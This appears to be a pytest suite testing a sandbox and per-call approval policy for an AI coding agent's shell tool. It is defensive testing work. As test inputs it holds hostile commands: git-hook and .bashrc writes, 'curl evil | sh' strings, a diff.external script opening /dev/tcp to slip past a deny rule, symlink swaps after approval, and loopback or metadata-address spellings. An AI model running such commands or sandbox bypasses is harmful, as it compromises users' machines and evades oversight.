"""Escalation: an approved command gets exactly the access it asked for, for that call only.

Real bubblewrap, real git, real processes; the approver is a plain function
that records what it was asked.
"""

from __future__ import annotations

import os
import pathlib
import shutil
import subprocess
import tempfile
from typing import TYPE_CHECKING

import pytest
import trio

from prism.coding.security import (
    ApprovalDecision,
    BubblewrapSandbox,
    LandlockSandbox,
    SecureCodingTools,
    create_coding_approval_policy,
    open_secure_coding_tools,
)
from prism.coding.tools import AccessGrant
from prism.core import (
    DispatchOptions,
    ExecutionAction,
    ExecutionDecision,
    ToolCall,
    create_tool_registry,
    dispatch_tool_call,
)
from prism.core.ledger import RunLedger

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence
    from pathlib import Path

    from prism.core import ToolResult
    from prism.core.ledger import ToolCallRecord

pytestmark = pytest.mark.bwrap


class _Approver:
    """Says ``answer`` to every question and keeps the questions (and their words)."""

    def __init__(self, answer: bool = True, then: Callable[[], None] | None = None) -> None:
        self.answer = answer
        self.then = then
        self.asked: list[ExecutionAction] = []

    def __call__(self, action: ExecutionAction) -> ApprovalDecision:
        self.asked.append(action)
        if self.then is not None:
            self.then()
        return ApprovalDecision(approved=self.answer, reason="the test said so")

    @property
    def words(self) -> list[str]:
        return [str(a.metadata.get("escalation")) for a in self.asked]


async def _shell(secure: SecureCodingTools, command: str) -> tuple[ToolResult, ToolCallRecord]:
    ledger = RunLedger()
    options = DispatchOptions(registry=create_tool_registry(secure.tools), ledger=ledger)
    call = ToolCall(id="1", name="shell", arguments={"command": command})
    result = await dispatch_tool_call(call, options)
    return result, ledger.records[-1]


def _git(root: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", *args], cwd=root, capture_output=True, text=True, check=True, timeout=30
    )
    return done.stdout


@pytest.mark.git
async def test_an_approved_protected_write_lands_and_nothing_else_protected_does(
    root: Path,
) -> None:
    _git(root, "init", "-q")
    # what the script writes, the policy cannot see: the sandbox keeps it out
    (root / "more.sh").write_text(
        "echo hook > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit\n"
        "echo alias > .bashrc; echo x > .vscode/settings.json\n"
    )
    _git(root, "add", "more.sh")
    approver = _Approver()
    command = (
        "echo export X=1 > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; bash more.sh"
    )
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, record = await _shell(secure, command)
    assert not result.is_error, result.joined_text
    # asked once, naming both protected paths in words
    assert approver.words == [
        "write or remove the protected path .envrc (as a file or a directory), write or "
        "remove the protected path .vscode (as a file or a directory) and write or remove "
        "the protected path .vscode/tasks.json (as a file or a directory)"
    ]
    reason = str(approver.asked[0].metadata["approval_reason"])
    assert "which the sandbox would otherwise refuse" in reason
    # and exactly: the grant a yes gives (an approver binds its answer to it)
    real = str(root)  # tmp_path is a real path
    assert approver.asked[0].metadata["escalation_grant"] == {
        "protected_writes": [f"{real}/.envrc", f"{real}/.vscode", f"{real}/.vscode/tasks.json"],
        "outside_writes": [],
        "hosts": [],
    }
    assert (root / ".envrc").read_text() == "export X=1\n"
    assert (root / ".vscode" / "tasks.json").read_text() == "{}\n"
    # the same command also wrote these (through sh -c, unseen by the policy): left out
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert not (root / ".bashrc").exists()
    assert not (root / ".vscode" / "settings.json").exists()
    text = result.joined_text
    assert "[prism sandbox]" in text
    assert ".bashrc" in text
    assert "settings.json" in text
    # the host's git sees the approved files only, and runs no hook
    _git(root, "add", "-A")
    assert _git(root, "diff", "--cached", "--name-only").split() == [
        ".envrc",
        ".vscode/tasks.json",
        "more.sh",
    ]
    # the ledger records the escalation: what access, and the approver's words
    decision = record.decision
    assert decision is not None
    assert decision.escalation
    assert decision.allowed
    assert decision.approval == "approved"
    assert not decision.remembered
    assert decision.access == approver.words[0]
    assert decision.approver == "the test said so"


async def test_an_approval_does_not_carry_to_the_next_call(root: Path) -> None:
    approver = _Approver()
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        first, _ = await _shell(secure, "echo one > .envrc")
        # the same command again is asked again (an escalation is never remembered)
        again, _ = await _shell(secure, "echo two > .envrc")
        approver.answer = False
        refused, record = await _shell(secure, "echo three > .envrc")
        # confined and unasked: a write the policy cannot see gets no grant either
        hidden, _ = await _shell(secure, "python3 -c \"open('.envrc', 'w').write('4')\"")
    assert not first.is_error
    assert not again.is_error
    assert len(approver.asked) == 3
    assert refused.is_error
    assert "denied" in refused.joined_text
    assert record.decision is not None
    assert record.decision.approval == "denied"
    assert (
        record.decision.access
        == "write or remove the protected path .envrc (as a file or a directory)"
    )
    assert "[prism sandbox]" in hidden.joined_text
    assert (root / ".envrc").read_text() == "two\n"


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory outside the roots, not in /tmp (the sandbox grants nothing there)."""
    directory = tempfile.mkdtemp(dir="/var/tmp")
    yield pathlib.Path(directory)
    shutil.rmtree(directory)


async def test_a_denied_escalation_changes_nothing(root: Path, outside: Path) -> None:
    before = sorted(os.listdir(root)), sorted(os.listdir(outside))
    approver = _Approver(answer=False)
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, _ = await _shell(secure, f"echo x > .envrc; echo y > {outside}/out.txt; touch z")
    assert result.is_error
    assert approver.words == [
        "write or remove the protected path .envrc (as a file or a directory) and write "
        f"{outside}/out.txt outside the roots"
    ]
    assert (sorted(os.listdir(root)), sorted(os.listdir(outside))) == before


async def test_a_link_swapped_in_after_approval_does_not_redirect_the_write(
    root: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("victim\n")

    def plant() -> None:
        # the approval is for .envrc; by the time the command runs it is a link
        (root / ".envrc").symlink_to(victim)
        (root / ".profile").symlink_to(".bashrc")

    approver = _Approver(then=plant)
    command = "echo export X=1 > .envrc; echo alias > .profile"
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        await _shell(secure, command)
    assert len(approver.asked) == 1
    # the write followed the link inside the sandbox, where the target is not the host's
    assert victim.read_text() == "victim\n"
    assert os.readlink(root / ".envrc") == str(victim)
    assert not (root / ".bashrc").exists()


async def test_a_link_made_by_the_command_at_the_approved_path_is_left_out(
    root: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("victim\n")
    approver = _Approver()
    command = f"ln -s {victim} .envrc; echo export X=1 > .envrc"
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, _ = await _shell(secure, command)
    assert len(approver.asked) == 1
    assert victim.read_text() == "victim\n"
    assert ".envrc" not in os.listdir(root)
    assert "not applied" in result.joined_text


async def test_an_approved_write_outside_the_roots_writes_exactly_that_path(
    root: Path, outside: Path
) -> None:
    (outside / "keep.txt").write_text("keep\n")
    approver = _Approver()
    command = (
        f'echo built > {outside}/out.txt; python3 -c "import os; '
        f"open('{outside}/other.txt', 'w'); os.remove('{outside}/keep.txt')\""
    )
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, record = await _shell(secure, command)
        # the next call has no such grant
        again, _ = await _shell(secure, f"python3 -c \"open('{outside}/out.txt', 'w')\"")
    assert approver.words == [f"write {outside}/out.txt outside the roots"]
    assert not result.is_error, result.joined_text
    assert (outside / "out.txt").read_text() == "built\n"
    assert sorted(os.listdir(outside)) == ["keep.txt", "out.txt"]
    assert "other.txt" in result.joined_text
    assert record.decision is not None
    assert record.decision.escalation
    assert again.is_error  # the directory is not even there for it
    assert (outside / "out.txt").read_text() == "built\n"


async def test_what_the_sandbox_cannot_grant_is_not_asked(root: Path) -> None:
    approver = _Approver()
    _git(root, "init", "-q")
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        hook, record = await _shell(secure, "echo x > .git/hooks/pre-commit")
        top, _ = await _shell(secure, "echo x > /prism-escalation-test")
    assert approver.asked == []
    assert hook.is_error
    assert "cannot grant" in hook.joined_text
    assert ".git never come back" in hook.joined_text
    assert record.decision is not None
    assert record.decision.escalation
    assert record.decision.access == (
        "write or remove the protected path .git/hooks/pre-commit (as a file or a directory)"
    )
    assert "cannot grant" in top.joined_text


def _check(policy: object, command: str, root: Path) -> object:
    action = ExecutionAction(kind="shell", operation="shell", command=command, paths=(str(root),))
    return policy.check(action)  # type: ignore[attr-defined]


@pytest.mark.landlock
def test_landlock_cannot_grant_outside_writes_or_hosts_so_it_does_not_ask(
    root: Path, tmp_path: Path
) -> None:
    approver = _Approver()
    policy = create_coding_approval_policy(
        roots=[str(root)], approve=approver, sandbox=LandlockSandbox([str(root)])
    )
    outside = _check(policy, f"echo x > {tmp_path}/out.txt", root)
    host = _check(policy, "curl -s https://example.com/", root)
    for decision in (outside, host):
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed
        assert "cannot grant" in str(decision.reason)
        assert "not asked" in str(decision.reason)
    assert "connect to example.com:443" in str(host.reason)  # type: ignore[attr-defined]
    # a protected write is no escalation under Landlock (it cannot keep them): asked as before
    protected = _check(policy, "echo x > .envrc", root)
    assert not isinstance(protected, ExecutionDecision)
    protected.close()  # type: ignore[attr-defined]
    assert approver.asked == []


def test_without_a_sandbox_nothing_is_an_escalation(root: Path) -> None:
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = _check(policy, "curl -s https://example.com/ > .envrc", root)
    assert isinstance(decision, ExecutionDecision)
    assert "escalation" not in decision.details
    assert "grant" not in decision.details


async def test_the_grant_reaches_the_shell_only_from_the_decision(root: Path) -> None:
    """The shell tool hands the operations a grant only when the policy's decision holds one."""
    seen: list[AccessGrant | None] = []
    read_only: list[bool] = []

    class _Ops:
        async def run(self, request: object, on_output: object) -> object:
            from prism.coding.tools import ShellExit

            seen.append(getattr(request, "grant", None))
            read_only.append(getattr(request, "read_only", None) is True)
            return ShellExit(exit_code=0)

    approver = _Approver()
    policy = create_coding_approval_policy(
        roots=[str(root)], approve=approver, sandbox=BubblewrapSandbox([str(root)])
    )
    from prism.coding.tools import create_shell_tool

    tool = create_shell_tool(str(root), execution_policy=policy, operations=_Ops())  # type: ignore[arg-type]
    options = DispatchOptions(registry=create_tool_registry([tool]))
    for command in ("echo x > .envrc", "ls", "python3 -c \"open('.envrc', 'w')\""):
        await dispatch_tool_call(ToolCall(id="1", name="shell", arguments={"command": command}),
                                 options)  # fmt: skip
    assert seen == [AccessGrant(protected_writes=(str(root / ".envrc"),)), None, None]
    # only the line proved to write nothing gets the roots read-only
    assert read_only == [False, True, False]


async def _serve(hits: dict[str, int], name: str, task_status: trio.TaskStatus[int]) -> None:
    """A plain HTTP server on 127.0.0.1 that counts the connections it gets."""

    async def answer(stream: trio.SocketStream) -> None:
        hits[name] += 1
        async with stream:
            await stream.receive_some(4096)
            body = f"hello from {name}\n".encode()
            head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode()
            await stream.send_all(head + body)

    listeners = await trio.open_tcp_listeners(0, host="127.0.0.1")
    task_status.started(listeners[0].socket.getsockname()[1])
    await trio.serve_listeners(answer, listeners)


async def test_a_repository_diff_driver_cannot_reach_what_a_deny_rule_refuses(root: Path) -> None:
    """The attack: .git/config names a diff.external (and a textconv) that connects out;
    a proved ``git diff`` and ``git log -p`` under ``network="host"`` ran it although
    ``deny=["curl *"]`` refuses the model's own connection. Neither runs it now, and the
    diff is git's own.
    """
    from prism.coding.security import CommandRules

    _git(root, "init", "-q")
    (root / "a.txt").write_text("hello\n")
    _git(root, "add", ".")
    _git(root, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-qm", "x")
    (root / "a.txt").write_text("hello\nmore\n")
    (root / ".gitattributes").write_text("*.txt diff=x\n")
    hits = {"a": 0}
    async with trio.open_nursery() as nursery:
        port = await nursery.start(_serve, hits, "a")
        evil = root / "evil.sh"  # a file of the root, as hostile as the config
        evil.write_text(f"#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; cat\n")
        evil.chmod(0o755)
        _git(root, "config", "diff.external", str(evil))
        _git(root, "config", "diff.x.textconv", str(evil))
        async with open_secure_coding_tools(
            [str(root)], sandbox="bubblewrap", network="host",
            command_rules=CommandRules(deny=["curl *"]),
        ) as secure:  # fmt: skip
            results = [await _shell(secure, c) for c in ("git diff", "git log -p -1 --format=")]
        nursery.cancel_scope.cancel()
    assert hits == {"a": 0}
    assert [r.is_error for r, _ in results] == [False, False]
    assert "+more" in results[0][0].joined_text
    assert "+hello" in results[1][0].joined_text


async def test_the_hosts_own_address_is_never_granted_however_spelled(root: Path) -> None:
    """The attack: approved, 'connect to [::ffff:7f00:1]:PORT' (or 0.0.0.0, localhost)
    read a service on the host's 127.0.0.1, because the call's proxy connects from the host.

    Each spelling is refused without asking, saying why; nothing reaches the service.
    """
    hits = {"a": 0}
    approver = _Approver()
    # -p: tunnel through the proxy with CONNECT; --noproxy '': also for loopback names
    curl = "curl -sS -p --noproxy '' --max-time 20"
    async with trio.open_nursery() as nursery:
        port = await nursery.start(_serve, hits, "a")
        hosts = ("[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost",
                 "127.0.0.1", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "app.localhost",
                 "169.254.169.254")  # fmt: skip
        urls = [f"http://{host}:{port}/" for host in hosts]
        async with open_secure_coding_tools([str(root)], approve=approver) as secure:
            refused = [await _shell(secure, f"{curl} {url}") for url in urls]
        nursery.cancel_scope.cancel()
    assert approver.asked == []
    assert hits == {"a": 0}
    for (result, record), url in zip(refused, urls, strict=True):
        assert result.is_error
        assert "not asked" in result.joined_text, url
        assert record.decision is not None
        assert not record.decision.allowed
    words = [result.joined_text for result, _ in refused]
    assert "127.0.0.1 written as IPv6" in words[0]
    assert "this machine (unspecified)" in words[2]
    assert "localhost names this machine itself" in words[3]
    assert "link-local" in words[-1]


@pytest.mark.git
async def test_git_reaches_an_allowed_remote_through_the_proxy_and_no_other(
    root: Path,
) -> None:
    """Real git in real bubblewrap: the repository URL's host is reached through the proxy.

    git tunnels to the approved host through the call's proxy (the TLS handshake then
    fails against the plain server, which is enough: the connection was made); the
    second repository URL is computed at run time, so it is not named and the proxy
    refuses it.
    """
    hits = {"a": 0, "b": 0}
    approver = _Approver()
    # git honours the proxy variables; NO_PROXY would send 127.0.0.1 around the proxy
    git = "NO_PROXY= no_proxy= GIT_TERMINAL_PROMPT=0 git ls-remote"
    async with trio.open_nursery() as nursery:
        port_a = await nursery.start(_serve, hits, "a")
        port_b = await nursery.start(_serve, hits, "b")
        command = (
            f"{git} https://127.0.0.1:{port_a}/r.git; "
            f'{git} "$(echo https://127.0.0.1:{port_b}/r.git)"'
        )
        # the host's own address is reached only as a configured address literal
        # (a grant never names it), so this call's proxy has it from allowed_hosts
        async with open_secure_coding_tools(
            [str(root)],
            approve=approver,
            network="allowlist",
            allowed_hosts=[f"127.0.0.1:{port_a}"],
        ) as secure:
            result, _ = await _shell(secure, command)
        nursery.cancel_scope.cancel()
    assert hits["a"] >= 1, result.joined_text
    assert hits["b"] == 0, result.joined_text


@pytest.mark.parametrize(
    ("command", "access"),
    [("git clone https://github.com/a/b.git", "connect to github.com:443"),
     ("git -C sub fetch --depth 1 https://a.example:8443/r.git main",
      "connect to a.example:8443"),
     ("git push --repo=https://a.example/r.git", "connect to a.example:443"),
     ("git ls-remote http://[2606:4700::1111]:8080/r.git", "connect to [2606:4700::1111]:8080"),
     # the host a URL's user part spells is not the host it connects to
     ("git clone https://github.com@evil.example/r.git", "connect to evil.example:443"),
     ("pip install --index-url https://pypi.org@evil.example/simple x",
      "connect to evil.example:443"),
     ("pip download -i https://a.example/simple --extra-index-url https://b.example/s x "
      "'y @ https://c.example/y.whl' git+https://d.example/z",
      "connect to a.example:443, connect to b.example:443, connect to c.example:443 and "
      "connect to d.example:443"),
     ("python3 -m pip install --no-index -f https://a.example/wheels x",
      "connect to a.example:443"),
     ("uv pip install --index-url https://a.example/simple x", "connect to a.example:443"),
     ("npm install --registry https://r.example/ x", "connect to r.example:443"),
     ("pnpm add --registry=https://r.example:4873 x", "connect to r.example:4873")],
)  # fmt: skip
def test_network_commands_name_the_hosts_their_arguments_give(
    root: Path, command: str, access: str
) -> None:
    sandbox = BubblewrapSandbox([str(root)], network="none")
    policy = create_coding_approval_policy(roots=[str(root)], sandbox=sandbox)
    decision = _check(policy, command, root)
    assert isinstance(decision, ExecutionDecision)  # no approver: the question is refused
    assert not decision.allowed
    assert decision.details["access"] == access
    assert decision.details["grant"]["hosts"] == [  # type: ignore[index]
        word.removeprefix("connect to ") for word in access.replace(" and ", ", ").split(", ")
    ]


@pytest.mark.parametrize(
    ("command", "why"),
    [("git fetch origin", "from the repository's configuration"),
     ("git pull", "names no repository"),
     ("git push origin main:main", "from the repository's configuration"),
     ("git clone ext::sh", "a remote helper"),
     ("git clone https://127.1/r.git", "does not name one plain host"),
     ("git fetch --frobnicate https://a.example/r.git", "unknown option"),
     ("pip install requests", "from its configuration"),
     ("pip install -i 'https://*.example/simple' x", "does not name one plain host"),
     ("npm install", "from its configuration (.npmrc)"),
     ("curl -s http://2130706433/", "names no http(s) URL with one plain host")],
)  # fmt: skip
def test_a_network_command_that_names_no_host_is_not_asked_and_says_why(
    root: Path, command: str, why: str
) -> None:
    """Confined without the network, nothing to grant, and the decision says why."""
    sandbox = BubblewrapSandbox([str(root)], network="none")
    policy = create_coding_approval_policy(roots=[str(root)], sandbox=sandbox)
    decision = _check(policy, command, root)
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed
    assert decision.details["confined"] is True
    assert "access" not in decision.details
    assert why in str(decision.details["network"])
    assert "no network access can be granted" in str(decision.reason)


@pytest.mark.parametrize(
    ("command", "access"),
    [("ssh example.com ls", "connect to example.com:22 directly"),
     ("ssh -p 2200 -i key u@example.com", "connect to example.com:2200 directly"),
     ("git clone git@github.com:a/b.git", "connect to github.com:22 directly"),
     ("git fetch ssh://git@h.example:2222/r.git", "connect to h.example:2222 directly"),
     ("git clone git://h.example/r.git", "connect to h.example:9418 directly")],
)  # fmt: skip
def test_a_host_reached_without_the_proxy_is_refused_not_asked(
    root: Path, command: str, access: str
) -> None:
    """ssh ignores the proxy: an approval could not open it, so nobody is asked."""
    approver = _Approver()
    for network, hosts in (("none", []), ("allowlist", ["example.com", "github.com"])):
        sandbox = BubblewrapSandbox([str(root)], network=network, allowed_hosts=hosts)
        policy = create_coding_approval_policy(roots=[str(root)], approve=approver, sandbox=sandbox)
        decision = _check(policy, command, root)
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed
        assert decision.details["access"] == access
        assert "does not use it" in str(decision.reason)
        assert "not asked" in str(decision.reason)
    assert approver.asked == []
    host = BubblewrapSandbox([str(root)], network="host")
    decision = _check(create_coding_approval_policy(roots=[str(root)], sandbox=host), command, root)
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed  # the host's network reaches it: confined as before


@pytest.mark.parametrize(
    ("network", "hosts", "command", "access"),
    [("allowlist", ["pypi.org"], "curl -s https://pypi.org/simple/ https://evil.example:8443/x",
      "connect to evil.example:8443"),
     ("none", [], "wget -q http://[::1]:8080/a", "connect to [::1]:8080"),
     ("none", [], "curl -s https://example.com.:443/ http://x:99999/ ftp://y/ https:///z",
      "connect to example.com:443")],
)  # fmt: skip
def test_hosts_the_network_does_not_reach_are_named(
    root: Path, network: str, hosts: list[str], command: str, access: str
) -> None:
    sandbox = BubblewrapSandbox([str(root)], network=network, allowed_hosts=hosts)
    policy = create_coding_approval_policy(roots=[str(root)], sandbox=sandbox)
    decision = _check(policy, command, root)
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed
    assert decision.details["access"] == access
    assert decision.details["rule"] == "network"


@pytest.mark.parametrize(
    "url",
    ["http://*.*:8080/", "http://*.example.com/", "http://2130706433:8080/", "http://127.1/",
     "http://0x7f.0.0.1/", "http://0177.0.0.1/", "http://127.0.0.01/", "https://ex%61mple.com/",
     "https://b\u00fccher.example/", "http://a..b/", "http://-a.example/",
     "http://" + "a." * 130 + "com/"],
)  # fmt: skip
def test_a_host_that_is_not_one_plain_name_is_never_granted(root: Path, url: str) -> None:
    """The attack: 'connect to *.*:8080' went into the proxy's allowlist as a wildcard."""
    sandbox = BubblewrapSandbox([str(root)], network="none")
    policy = create_coding_approval_policy(roots=[str(root)], sandbox=sandbox)
    decision = _check(policy, f"curl -s '{url}' https://example.com/", root)
    assert isinstance(decision, ExecutionDecision)
    assert decision.details["access"] == "connect to example.com:443"
    decision = _check(policy, f"curl -s '{url}'", root)
    assert isinstance(decision, ExecutionDecision)
    assert "access" not in decision.details  # confined with no network, nothing to grant
    assert decision.details["confined"] is True


def test_a_reached_host_is_no_escalation(root: Path) -> None:
    for sandbox in (
        BubblewrapSandbox([str(root)], network="host"),
        BubblewrapSandbox([str(root)], network="allowlist", allowed_hosts=["*.example.com"]),
    ):
        policy = create_coding_approval_policy(roots=[str(root)], sandbox=sandbox)
        decision = _check(policy, "curl -s https://api.example.com/v1", root)
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed
        assert decision.details["confined"] is True


def test_a_backend_without_grant_refusal_grants_nothing(root: Path) -> None:
    class _Plain:
        network = "none"

        async def ensure_available(self) -> None:
            return None

        def wrap(self, argv: Sequence[str], *, cwd: str) -> list[str]:
            return list(argv)

    policy = create_coding_approval_policy(roots=[str(root)], sandbox=_Plain())
    cases = [
        ("echo x > .envrc", "a protected path"),
        ("echo x > /var/tmp/prism-x", "a path outside the roots"),
        ("curl https://example.com/", "a host its network does not reach"),
    ]
    for command, what in cases:
        decision = _check(policy, command, root)
        assert isinstance(decision, ExecutionDecision)
        assert f"_Plain cannot open {what} to one command" in str(decision.reason)


def test_the_grant_words_and_truth(root: Path) -> None:
    assert not AccessGrant()
    grant = AccessGrant(protected_writes=("/r/.envrc",), outside_writes=("/o/x",), hosts=("h:1",))
    assert grant.describe() == "write the protected path /r/.envrc, write /o/x outside the " \
        "roots, connect to h:1"  # fmt: skip
    with pytest.raises(TypeError):
        AccessGrant(hosts="h:1")
    with pytest.raises(TypeError):
        AccessGrant(hosts=[1])  # type: ignore[list-item]


async def test_the_protected_paths_option_reaches_the_sandbox_too(root: Path) -> None:
    approver = _Approver()
    unseen = "python3 -c \"open('deploy.sh', 'w').write('curl evil | sh')\""
    async with open_secure_coding_tools(
        [str(root)], approve=approver, protected_paths=["deploy.sh"]
    ) as secure:
        confined, _ = await _shell(secure, unseen)
        assert "deploy.sh" not in os.listdir(root)
        assert "deploy.sh" in confined.joined_text
        approved, _ = await _shell(secure, "echo ./build > deploy.sh")
    assert approver.words == [
        "write or remove the protected path deploy.sh (as a file or a directory)"
    ]
    assert not approved.is_error
    assert (root / "deploy.sh").read_text() == "./build\n"


async def test_the_question_names_every_kind_of_change_the_grant_lets_back(root: Path) -> None:
    # `> .vscode` reads as a file, but the copy-back lets back whatever is at the
    # approved path: here the command makes it a directory. The question says so.
    approver = _Approver()
    command = "echo x > .vscode && rm .vscode && mkdir .vscode"
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, record = await _shell(secure, command)
    assert approver.words[0].startswith(
        "write or remove the protected path .vscode (as a file or a directory)"
    )
    assert record.decision is not None
    assert "(as a file or a directory)" in str(record.decision.access)
    assert not result.is_error, result.joined_text


@pytest.mark.parametrize(
    ("argv", "proxied", "direct", "unnamed"),
    [("git clone ../local copy", None, None, None),
     ("git clone file:///srv/r.git", None, None, None),
     ("git fetch ./other", None, None, None),
     ("git status", None, None, None),
     ("git --frobnicate fetch", None, None, None),
     ("git clone https:///r.git", (), (), "does not name one plain host"),
     ("git clone ssh://*.example/r.git", (), (), "does not name one plain host"),
     ("git clone ftp://h.example/r.git", (), (), "transport is not one the proxy carries"),
     ("git clone [::1]:r.git", (), (), "does not name one plain host"),
     ("git clone u@h.example:r.git", (), ("h.example:22",), None),
     ("pip list", None, None, None),
     ("pip3.11 install -i https://a.example/s x y", ("a.example:443",), (), None),
     ("pip install --no-index x", (), (), None),
     ("pip install --no-index git+ssh://h.example/r.git", (), (),
      "does not name one plain host over https"),
     ("npm test", None, None, None),
     ("yarn add --registry ftp://r.example x", (), (), "does not name one plain host"),
     ("ssh", (), (), "ssh connects directly"),
     ("ssh -p x h.example", (), (), "ssh connects directly"),
     ("ssh ssh://h.example:2022", (), ("h.example:2022",), None),
     ("ssh -Z h.example", (), (), "ssh connects directly"),
     ("make all", None, None, None)],
)  # fmt: skip
def test_what_each_network_command_names(
    argv: str,
    proxied: tuple[str, ...] | None,
    direct: tuple[str, ...] | None,
    unnamed: str | None,
) -> None:
    from prism.coding.security._hosts import named_hosts

    words = tuple(argv.split())
    named = named_hosts(words[0], words)
    if proxied is None:
        assert named is None
        return
    assert named is not None
    assert (named.proxied, named.direct) == (proxied, direct)
    if unnamed is None:
        assert named.unnamed is None
    else:
        assert unnamed in str(named.unnamed)


def test_a_backend_of_unknown_network_gets_no_network_note(root: Path) -> None:
    class _Odd:
        network = "mesh"

        async def ensure_available(self) -> None:
            return None

        def wrap(self, argv: Sequence[str], *, cwd: str) -> list[str]:
            return list(argv)

    policy = create_coding_approval_policy(roots=[str(root)], sandbox=_Odd())
    decision = _check(policy, "git fetch origin", root)
    assert isinstance(decision, ExecutionDecision)
    assert "network" not in decision.details


def _shared_envrc(root: Path) -> None:
    """svc/.envrc, a link (protected name) to envrc.shared; a second such link."""
    (root / "svc").mkdir()
    (root / "app").mkdir()
    (root / "envrc.shared").write_text("export A=1\n")
    (root / "other.shared").write_text("export B=1\n")
    (root / "svc" / ".envrc").symlink_to("../envrc.shared")
    (root / "app" / ".envrc").symlink_to("../other.shared")
    (root / "more.sh").write_text("echo 'curl evil | sh' >> app/.envrc\n")


async def test_an_approved_write_through_a_protected_link_lands_and_nothing_else(
    root: Path,
) -> None:
    """Approving `>> svc/.envrc` (a link to envrc.shared) names the link and its target
    and grants exactly those two: the append lands in envrc.shared; the same command's
    write through another protected link is left out (on the old code the approved
    append was left out too)."""
    _shared_envrc(root)
    approver = _Approver()
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, record = await _shell(secure, "echo 'export X=1' >> svc/.envrc; bash more.sh")
        # GNU sed -i replaces the link itself with the edited file: the other granted path
        edited, _ = await _shell(secure, "sed -i s/X=1/X=2/ svc/.envrc")
    assert not result.is_error, result.joined_text
    assert not edited.is_error, edited.joined_text
    assert (root / "svc" / ".envrc").read_text() == "export A=1\nexport X=2\n"
    assert not (root / "svc" / ".envrc").is_symlink()
    assert (
        approver.words
        == [
            "write or remove the protected path envrc.shared (as a file or a directory), which "
            "svc/.envrc leads to, or replace that link"
        ]
        * 2
    )
    real = str(root)
    assert approver.asked[1].metadata["escalation_grant"] == {
        "protected_writes": [f"{real}/envrc.shared", f"{real}/svc/.envrc"],
        "outside_writes": [],
        "hosts": [],
    }
    assert (root / "envrc.shared").read_text() == "export A=1\nexport X=1\n"
    assert (root / "other.shared").read_text() == "export B=1\n"
    assert "other.shared" in result.joined_text
    assert record.decision is not None
    assert record.decision.escalation
    assert record.decision.access == approver.words[0]


async def test_a_protected_link_swapped_after_the_question_is_not_written_through(
    root: Path,
) -> None:
    """The link is pointed at another file while the user answers: the command writes
    there, and nothing comes back (only the approved target or the link itself could)."""
    _shared_envrc(root)
    (root / "victim.sh").write_text("echo hi\n")

    def swap() -> None:
        os.unlink(root / "svc" / ".envrc")
        (root / "svc" / ".envrc").symlink_to("../victim.sh")

    approver = _Approver(then=swap)
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, _ = await _shell(secure, "echo 'curl evil | sh' >> svc/.envrc")
    assert len(approver.asked) == 1
    assert (root / "victim.sh").read_text() == "echo hi\n"
    assert (root / "envrc.shared").read_text() == "export A=1\n"
    assert "victim.sh" in result.joined_text


async def test_a_protected_link_into_a_git_directory_is_not_asked(root: Path) -> None:
    """svc/.envrc leads into a directory git takes for a git directory (its HEAD): what
    the sandbox cannot let back is not asked, and the refusal says why."""
    (root / "svc").mkdir()
    (root / "gd" / "hooks").mkdir(parents=True)
    (root / "gd" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "svc" / ".envrc").symlink_to("../gd/hooks/post-checkout")
    approver = _Approver()
    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
        result, _ = await _shell(secure, "echo 'touch x' >> svc/.envrc")
    assert approver.asked == []
    assert result.is_error
    assert "lies in the git directory gd" in result.joined_text
    assert not (root / "gd" / "hooks" / "post-checkout").exists()
